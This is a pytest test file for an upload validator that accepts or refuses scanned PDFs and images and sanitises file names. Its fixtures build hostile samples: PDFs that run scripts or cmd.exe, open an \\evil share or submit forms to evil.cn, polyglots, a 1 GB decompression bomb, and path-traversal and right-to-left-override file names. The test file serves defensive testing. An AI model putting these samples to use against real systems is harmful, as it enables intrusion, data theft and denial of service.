"""What is kept as a scan, what is refused and why, and what a file is called afterwards."""

import re
import time
import zlib
from collections.abc import Callable

import pytest

from services.intake.scans import look
from services.intake.sheets import LONGEST_NAME, Unusable, file_name
from tests import workbooks as made
from tests.documents import docx
from tests.scans import jpg, pdf, png, stream
from tests.unit.test_workbook import macro_sheet

BOOK = made.xlsx({"a": [["x"]]})
SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def packed(*levels: int) -> bytes:
    """A megabyte of blanks a thousandfold: 1 GB."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(1 << 10)) + packer.flush()


def bomb() -> bytes:
    body = packed()
    return pdf(b"<</Length %d/Filter/FlateDecode>>\nstream\n%s\nendstream" % (len(body), body))


GOOD: dict[str, Callable[[], bytes]] = {
    "pdf": pdf,
    "pdf with a page of text": lambda: pdf(stream(b"BT /F1 12 Tf (Launch of JavaScript) Tj ET")),
    "pdf with objects in a stream": lambda: pdf(stream(b"7 0 <</Type/Font>>", b"/Type/ObjStm/N 1/First 4")),
    "pdf, signed": lambda: pdf(b"<</Type/Sig/Filter/Adobe.PPKLite/Contents<00>>>"),
    "pdf with a web address": lambda: pdf(b"<</S/URI/URI(https://www.gz.gov.cn)>>"),
    "pdf, saved twice": lambda: pdf(behind=pdf()[9:]),
    "pdf, a broken stream": lambda: pdf(stream(b"x" * 9000).replace(b"endstream", b"")),
    "png": png,
    "jpg": jpg,
    "jpg of a camera, with a film": lambda: jpg(behind=b"\0\0\0\x18ftypmp42" + bytes(range(256)) * 40),
}

EVIL: dict[str, tuple[str, Callable[[], bytes]]] = {
    "nothing": ("scan.kind", lambda: b""),
    "too large a scan": ("scan.size", lambda: b"%PDF-" + bytes(20 * 1024 * 1024)),
    "noise as a scan": ("scan.kind", lambda: bytes(range(256))),
    "html as jpg": ("scan.kind", lambda: b"<html><script>alert(1)</script></html>"),
    "a program": ("scan.kind", lambda: b"MZ" + bytes(500)),
    "an svg": ("scan.kind", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>"),
    "a gif": ("scan.kind", lambda: b"GIF89a" + bytes(50)),
    "a tiff": ("scan.kind", lambda: b"II*\0" + bytes(50)),
    "a workbook as a scan": ("scan.kind", lambda: BOOK),
    "a head of pdf only": ("scan.damaged", lambda: b"%PDF-1.7 sealed"),
    "pdf, cut off": ("scan.damaged", lambda: pdf()[:-40]),
    "pdf with a script": ("scan.active", lambda: pdf(SCRIPT)),
    "pdf, a script spelt otherwise": ("scan.active", lambda: pdf(SCRIPT.replace(b"Java", b"J#61v#61"))),
    "pdf, a script in a stream": ("scan.active", lambda: pdf(stream(b"7 0 " + SCRIPT, b"/Type/ObjStm"))),
    "pdf, a script in a picture": ("scan.active", lambda: pdf(stream(b"7 0 " + SCRIPT, b"/Subtype/Image"))),
    "pdf, a script behind a megabyte": ("scan.active", lambda: pdf(stream(bytes((1 << 20) - 7) + SCRIPT))),
    "pdf that starts a program": ("scan.active", lambda: pdf(b"<</S/Launch/F(cmd.exe)>>")),
    "pdf, a program when opened": ("scan.active", lambda: pdf(trailer=b"/OpenAction<</S/Launch/F(a.exe)>>")),
    "pdf that opens a share": ("scan.active", lambda: pdf(b"<</S/GoToR/F(\\\\\\\\evil\\\\a)>>")),
    "pdf that sends a form": ("scan.active", lambda: pdf(b"<</S/SubmitForm/F(http://evil.cn)>>")),
    "pdf with xfa": ("scan.active", lambda: pdf(b"<</XFA[(a)9 0 R]>>")),
    "pdf with a film": ("scan.active", lambda: pdf(b"<</Subtype/RichMedia>>")),
    "pdf with a file in it": ("scan.embedded", lambda: pdf(stream(b"MZ", b"/Type/EmbeddedFile"))),
    "pdf with a note of a file": ("scan.embedded", lambda: pdf(b"<</Subtype/FileAttachment>>")),
    "pdf with password": ("scan.encrypted", lambda: pdf(trailer=b"/Encrypt 9 0 R")),
    "pdf, password in its stream": ("scan.encrypted", lambda: pdf(stream(b"", b"/Type/XRef/Encrypt 9 0 R"))),
    "pdf packed unusually": ("scan.unclear", lambda: pdf(
        b"<</Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]>>\nstream\n00>\nendstream")),
    "pdf, objects predicted": ("scan.unclear", lambda: pdf(stream(
        b"x", b"/DecodeParms<</Predictor 12>>/Type/Obj#53tm"))),
    "pdf bomb": ("scan.bomb", bomb),
    "pdf and zip": ("scan.polyglot", lambda: pdf(behind=BOOK)),
    "pdf within a zip's comment": ("scan.polyglot", lambda: pdf(behind=commented(pdf()))),
    "pdf and html": ("scan.polyglot", lambda: b"%PDF-1.7\n<html><script>" + pdf()),
    "png cut off": ("scan.damaged", lambda: png()[:-20]),
    "png with a wrong sum": ("scan.damaged", lambda: png().replace(b"IDAT", b"IDAX")),
    "png without a picture": ("scan.damaged", lambda: png().replace(png()[33:-12], b"")),
    "png and zip": ("scan.polyglot", lambda: png(behind=BOOK)),
    "png and something": ("scan.polyglot", lambda: png(behind=b"secret")),
    "png of a billion pixels": ("scan.pixels", lambda: png((2**31 - 1, 2**31 - 1))),
    "png of no pixel": ("scan.damaged", lambda: png((0, 0))),
    "jpg cut off": ("scan.damaged", lambda: jpg()[:-2]),
    "jpg of its first bytes": ("scan.damaged", lambda: b"\xff\xd8\xff\xe0..."),
    "jpg and zip": ("scan.polyglot", lambda: jpg(behind=BOOK)),
    "jpg and rar": ("scan.polyglot", lambda: jpg(behind=b"Rar!\x1a\x07\x01\x00")),
    "jpg and a page": ("scan.polyglot", lambda: jpg(behind=b"<script>alert(1)</script>")),
    "jpg of two billion pixels": ("scan.pixels", lambda: jpg((65535, 65535))),
}  # fmt: skip


def commented(by: bytes) -> bytes:
    """A zip whose comment is a file that ends as one should."""
    return BOOK[:-2] + len(by).to_bytes(2, "little") + by


@pytest.mark.parametrize("what", GOOD)
def test_a_sound_scan_is_kept(what: str) -> None:
    assert look(GOOD[what](), "扫描件.pdf", only_scan=True) == "scan"


@pytest.mark.parametrize("what", EVIL)
def test_a_harmful_or_foreign_one_is_refused_by_name(what: str) -> None:
    code, make = EVIL[what]
    started = time.process_time()
    with pytest.raises(Unusable) as refused:
        look(make(), "扫描件.pdf", only_scan=True)
    assert refused.value.code == code
    assert re.search(r"请.*报送", refused.value.detail)  # what to do
    assert time.process_time() - started < 30


def test_a_paper_that_says_which_it_is_may_be_a_document() -> None:
    assert look(BOOK, "花名册.xlsx", only_scan=False) == "workbook"
    assert look(docx(["正文"]), "花名册.docx", only_scan=False) == "workbook"
    assert look(pdf(), "花名册.docx", only_scan=False) == "scan"
    with pytest.raises(Unusable) as refused:
        look(made.rezip(BOOK, {"xl/vbaProject.bin": b"x"}), "花名册.xlsx", only_scan=False)
    assert refused.value.code == "workbook.macros"
    with pytest.raises(Unusable) as refused:
        look(macro_sheet(), "花名册.xls", only_scan=False)
    assert refused.value.code == "workbook.macros"


NAMES = {
    "盖章扫描件.pdf": "盖章扫描件.pdf",
    "../../etc/passwd": "_.._etc_passwd",
    "..\\..\\a.pdf": "_.._a.pdf",
    "C:\\a.pdf": "C__a.pdf",
    "报价\u202efdp.exe": "报价fdp.exe",
    "a\u2066b\u200b.pdf": "ab.pdf",
    "a\0b\r\nBcc: x.pdf": "abBcc_ x.pdf",
    "e\u0301.pdf": "é.pdf",
    "con.pdf": "_con.pdf",
    "LPT1": "_LPT1",
    "concert.pdf": "concert.pdf",
    ".htaccess": "htaccess",
    "a.pdf. . ": "a.pdf",
    "\u202e\u202e": "_",
    "...": "_",
    "<b>&\"'|?*.pdf": "_b_&_'___.pdf",
    "lone\ud800.pdf": "lone.pdf",
    "长" * 116 + ".pdf": "长" * 78 + ".pdf",
    "a." + "长" * 118: ("a." + "长" * 118)[:81],
}


@pytest.mark.parametrize("said", NAMES, ids=ascii)
def test_a_file_has_a_name_that_stays_a_name(said: str) -> None:
    name = file_name(said)
    assert name == NAMES[said]
    assert len(name.encode()) <= LONGEST_NAME
    assert file_name(name) == name
